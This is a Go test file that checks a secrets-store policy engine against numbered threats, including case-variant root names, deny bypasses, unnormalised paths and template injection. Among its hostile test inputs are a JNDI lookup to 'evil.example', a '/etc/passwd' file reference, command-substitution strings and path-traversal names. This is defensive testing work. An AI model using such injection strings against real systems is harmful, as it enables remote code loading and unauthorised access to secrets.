package policy

import (
	"encoding/json"
	"net/url"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"

	"tacet"
)

// The tests of this file are about classes of vulnerability that secrets stores have
// had, by their numbers in the project's list of threats.

// Threat 7: a name that differs from a privileged one in case only. Here no name is
// privileged: who is root is a fact of the caller, and principals are compared
// byte for byte.
func TestThreat07_NamesGiveNoPrivilege(t *testing.T) {
	denied := func(c Caller, s *Set) {
		t.Helper()
		r := &Request{Caller: c, Actions: tacet.OpGetSecretValue.Actions(), Resource: dbSecret, ResourceAccount: home}
		if d := Decide(s, r); d.Allowed {
			t.Errorf("%+v: %+v", c, d)
		}
	}
	for _, name := range []string{"root", "Root", "ROOT", ":root", "../root"} {
		denied(Caller{ARN: "arn:aws:iam::" + home + ":user/" + name, Account: home, Name: name}, &Set{})
	}
	// The ARN of root without the fact is the ARN and no more.
	denied(Caller{ARN: rootOf, Account: home, Name: "root"}, &Set{})
	// A root without an account is root of nothing.
	denied(Caller{ARN: rootOf, Root: true}, &Set{})

	granted := &Set{Resource: mustParse(t, Resource, grantTo(aws(alice)))}
	for _, arn := range []string{strings.ToUpper(alice), alice + " ", alice + "\x00", " " + alice, strings.Replace(alice, "alice", "Alice", 1), strings.Replace(alice, "alice", "alic\u0435", 1), alice + "/"} {
		denied(Caller{ARN: arn, Account: home}, granted)
	}
	for _, v := range []string{"arn:aws:iam::111122223333:Root", "arn:AWS:iam::111122223333:root", "ARN:aws:iam::111122223333:root", "arn:aws:IAM::111122223333:root"} {
		if _, err := Parse("p", Resource, []byte(grantTo(aws(v)))); err == nil {
			t.Errorf("%s is taken for a principal", v)
		}
	}
}

// Threat 8: an edit that was to limit gives more. Whatever the policies, adding a
// boundary, a session policy or a deny never turns a refusal into an allow, and
// adding an allow never turns an allow into a refusal.
func TestThreat08_LimitsOnlyShrink(t *testing.T) {
	checkCases(t, "1500", func(g generator) {
		r := g.request()
		texts := g.set(&r)
		before := Decide(compileSet(g, texts), r.Request)
		more := texts
		switch pick(g, "edit", "boundary", "session", "deny", "allow") {
		case "boundary":
			if texts.Boundary != "" {
				return
			}
			more.Boundary = g.document(Boundary, &r)
		case "session":
			if texts.HasSession || len(texts.Session) > 0 {
				return
			}
			more.HasSession, more.Session = true, []string{g.document(Session, &r)}
		case "deny":
			more.Identity = append(slices.Clone(texts.Identity), strings.ReplaceAll(g.document(Identity, &r), `"Allow"`, `"Deny"`))
		case "allow":
			more.Identity = append(slices.Clone(texts.Identity), strings.ReplaceAll(g.document(Identity, &r), `"Deny"`, `"Allow"`))
			if after := Decide(compileSet(g, more), r.Request); before.Allowed && !after.Allowed {
				g.Fatalf("an allow more refuses: %s", describe(r, more))
			}
			return
		}
		if after := Decide(compileSet(g, more), r.Request); !before.Allowed && after.Allowed {
			g.Fatalf("a limit more allows: %s", describe(r, more))
		}
	})
}

// Threat 9: a more specific allow, or another way to ask the same, gets round a deny.
// For every operation, under every one of its names, in any case, an explicit deny
// in any place wins over allows that are as specific as can be.
func TestThreat09_ExplicitDenyWins(t *testing.T) {
	for _, op := range tacet.Operations() {
		resource := dbSecret
		if op == tacet.OpListSecrets || op == tacet.OpBatchGetSecretValue || op == tacet.OpGetRandomPassword {
			resource = "*"
		}
		r := &Request{Caller: callers["session"], Actions: op.Actions(), Resource: resource, ResourceAccount: home}
		exact := `"Action":"` + op.Action() + `","Resource":"` + resource + `"`
		allows := Set{
			Identity: []*Document{mustParse(t, Identity, st(`"Effect":"Allow",`+exact))},
			Session:  []*Document{mustParse(t, Session, st(`"Effect":"Allow",`+exact))},
			Boundary: mustParse(t, Boundary, st(`"Effect":"Allow",`+exact)),
			Resource: mustParse(t, Resource, st(`"Effect":"Allow","Principal":{"AWS":"`+opsRun+`"},`+exact)),
		}
		if d := Decide(&allows, r); !d.Allowed {
			t.Fatalf("%s: %+v", op, d)
		}
		for _, name := range r.Actions {
			for _, pattern := range []string{name, strings.ToUpper(name), name[:len(name)-3] + "*", "*" + name[5:], "*"} {
				if pattern == "*"+name[5:] && !strings.ContainsAny(pattern, ":/") {
					continue // no pattern of an action
				}
				deny := `"Effect":"Deny","Action":"` + pattern + `","Resource":"*"`
				for place, want := range map[string]tacet.DenyReason{"identity": tacet.DenyExplicitIdentity, "boundary": tacet.DenyExplicitBoundary,
					"session": tacet.DenyExplicitSession, "resource": tacet.DenyExplicitResource} {
					s := allows
					switch place {
					case "identity":
						s.Identity = append(slices.Clone(s.Identity), mustParse(t, Identity, st(deny)))
					case "boundary":
						s.Boundary = mustParse(t, Boundary, st(deny))
					case "session":
						s.Session = append(slices.Clone(s.Session), mustParse(t, Session, st(deny)))
					case "resource":
						s.Resource = mustParse(t, Resource, st(`"Principal":"*",`+deny))
					}
					if d := Decide(&s, r); d.Allowed || d.Reason != want {
						t.Errorf("%s, denied as %s in %s: %+v", op, pattern, place, d)
					}
				}
			}
		}
	}
}

// Threat 10: the decision looks at another name than the operation does, because one of
// them was normalised. Here nothing is: a pattern matches a name byte for byte, and
// a name that some reader might take for the same is another name.
func TestThreat10_NamesAreNotNormalised(t *testing.T) {
	const arn = "arn:aws:secretsmanager:eu-central-1:111122223333:secret:"
	allow := &Set{Identity: []*Document{mustParse(t, Identity, st(`"Effect":"Allow","Action":"*","Resource":"`+arn+`prod/db-a1B2c3"`))}}
	deny := &Set{Identity: []*Document{mustParse(t, Identity, allowAll), mustParse(t, Identity, st(`"Effect":"Deny","Action":"*","Resource":"`+arn+`prod/*"`))}}
	ask := func(s *Set, name string) bool {
		return Decide(s, &Request{Caller: callers["alice"], Actions: tacet.OpGetSecretValue.Actions(), Resource: arn + name, ResourceAccount: home}).Allowed
	}
	if !ask(allow, "prod/db-a1B2c3") || ask(deny, "prod/db-a1B2c3") {
		t.Fatal("the name itself")
	}
	for _, name := range []string{"prod//db-a1B2c3", "prod/./db-a1B2c3", "x/../prod/db-a1B2c3", "prod%2Fdb-a1B2c3", url.QueryEscape("prod/db-a1B2c3"),
		"PROD/db-a1B2c3", "prod/db-a1b2c3", "prod/db-a1B2c3/", "prod/db-a1B2c3\x00", "prod\\db-a1B2c3", "./prod/db-a1B2c3", "prod;x/db-a1B2c3", "ｐrod/db-a1B2c3"} {
		if ask(allow, name) {
			t.Errorf("%q is taken for the name allowed", name)
		}
		// And a deny by prefix denies exactly the names with that prefix.
		if ask(deny, name) == strings.HasPrefix(name, "prod/") {
			t.Errorf("%q: the deny is for another name", name)
		}
	}
	// A name that climbs out is still below its own prefix, for allow and deny alike.
	below := &Set{Identity: []*Document{mustParse(t, Identity, st(`"Effect":"Allow","Action":"*","Resource":"`+arn+`app/*"`))}}
	if !ask(below, "app/../prod/db-a1B2c3") || ask(deny, "prod/../app/x-a1B2c3") {
		t.Error("a name was resolved")
	}
}

// Threat 11: values of an identity that are patterns get into a policy as patterns.
// Whatever a user is called, and wherever his name is inserted, it matches itself
// and nothing else.
func TestThreat11_IdentityValuesAreLiterals(t *testing.T) {
	const arn = "arn:aws:secretsmanager:eu-central-1:111122223333:secret:"
	docs := map[string]*Document{
		"resource":        mustParse(t, Identity, st(`"Effect":"Allow","Action":"*","Resource":"`+arn+`${aws:username}/*"`)),
		"tag":             mustParse(t, Identity, st(`"Effect":"Allow","Action":"*","Resource":"`+arn+`${aws:PrincipalTag/team}/*"`)),
		"default":         mustParse(t, Identity, st(`"Effect":"Allow","Action":"*","Resource":"`+arn+`${aws:PrincipalTag/none, '*'}/*"`)),
		"StringEquals":    mustParse(t, Identity, st(ok+`,"Condition":{"StringEquals":{"test:name":"${aws:username}"}}`)),
		"StringLike":      mustParse(t, Identity, st(ok+`,"Condition":{"StringLike":{"test:name":"${aws:username}"}}`)),
		"ArnLike":         mustParse(t, Identity, st(ok+`,"Condition":{"ArnLike":{"test:arn":"arn:aws:iam::*:user/${aws:username}"}}`)),
		"ArnLike, alone":  mustParse(t, Identity, st(ok+`,"Condition":{"ArnLike":{"test:name":"${aws:username}"}}`)),
		"StringLike, Not": mustParse(t, Identity, st(ok+`,"Condition":{"StringNotLike":{"test:name":"${aws:username}"}}`)),
	}
	allowed := func(doc, user, other string) bool {
		r := &Request{Caller: callers["alice"], Actions: []string{"a:b"}, Resource: arn + other + "/key-a1B2c3", ResourceAccount: home,
			Context: mapContext{"aws:username": {user}, "aws:principaltag/team": {user}, "test:name": {other}, "test:arn": {"arn:aws:iam::1:user/" + other}}}
		return Decide(&Set{Identity: []*Document{docs[doc]}}, r).Allowed
	}
	hostile := []string{"*", "?", "**", "a*", "*/", "?????", "${aws:username}", "${*}", "$", "[a-z]", ".*", "+", ",", "a,b", "'", "prod/../*", "\\*", "\xff", "\xfe", "\xff\xfe*"}
	for _, user := range hostile {
		for _, other := range append([]string{"alice", "prod", "x", "", "a", "aa", "bobby"}, hostile...) {
			for doc := range docs {
				want := user == other
				switch doc {
				case "default":
					want = other == "*" || strings.HasPrefix(other, "*/")
				case "StringLike, Not":
					want = !want
				case "resource", "tag": // the pattern goes on with "/*"
					want = strings.HasPrefix(other+"/", user+"/")
				}
				if !utf8.ValidString(user) && doc != "default" {
					// What is no text is inserted nowhere.
					want = doc == "StringLike, Not"
				}
				if got := allowed(doc, user, other); got != want {
					t.Errorf("%s: user %q on %q: %v", doc, user, other, got)
				}
			}
		}
	}
}

// Threat 12: a policy's template reaches out: to the environment, a file, the network, a
// function. Here a variable is the name of a key of the request and nothing else, it is
// looked up once, and what it holds is never read as a template again.
func TestThreat12_VariablesOnlyLookUp(t *testing.T) {
	for _, variable := range []string{
		"${getSecretKey \"x\"}", "${getHostByName}", "${env.HOME}", "${aws:username | upper}", "${aws:username()}", "${$(id)}", "${`id`}",
		"${{aws:username}}", "${${aws:username}}", "${aws:${aws:username}}", "${}", "${ }", "${*?}", "${**}", "${aws:username, ${aws:userid}}", "${aws:username, \"x\"}",
		"${aws:username, 'x', 'y'}", "${aws:username 'x'}", "${\n}", "${aws:user\u0000name}", "${jndi:ldap://evil.example/a}", "${file:///etc/passwd?}",
	} {
		text, err := json.Marshal(variable)
		if err != nil {
			t.Fatal(err)
		}
		for _, element := range []string{
			`"Resource":` + strings.Replace(string(text), `"`, `"arn:`, 1),
			`"Resource":"*","Condition":{"StringLike":{"aws:username":` + string(text) + `}}`,
		} {
			doc, err := Parse("p", Identity, []byte(st(`"Effect":"Allow","Action":"a:b",`+element)))
			if err == nil && variable != "${jndi:ldap://evil.example/a}" {
				t.Errorf("%s is taken for a variable", element)
			}
			if err != nil {
				continue
			}
			// What has the form of a key is one: it is asked of the request, and of nothing else.
			var asked askedKeys
			Decide(&Set{Identity: []*Document{doc}}, &Request{Caller: callers["alice"], Actions: []string{"a:b"}, Resource: "arn:x", ResourceAccount: home, Context: &asked})
			if slices.ContainsFunc(asked, func(key string) bool { return key != "jndi:ldap://evil.example/a" && key != "aws:username" }) {
				t.Errorf("%s asks for %q", element, asked)
			}
		}
	}
	// A value, or a default, that is a variable's text stays text.
	for resource, want := range map[string]bool{"arn:${aws:userid}": true, "arn:secret-id": false, "arn:alice": false} {
		for _, text := range []string{"arn:${aws:username}", "arn:${aws:PrincipalTag/none, '${aws:userid'}}"} {
			doc := mustParse(t, Identity, st(`"Effect":"Allow","Action":"a:b","Resource":"`+text+`"`))
			r := &Request{Caller: callers["alice"], Actions: []string{"a:b"}, Resource: resource, ResourceAccount: home,
				Context: mapContext{"aws:username": {"${aws:userid}"}, "aws:userid": {"secret-id"}}}
			if got := Decide(&Set{Identity: []*Document{doc}}, r).Allowed; got != want {
				t.Errorf("%s on %s: %v", text, resource, got)
			}
		}
	}
}
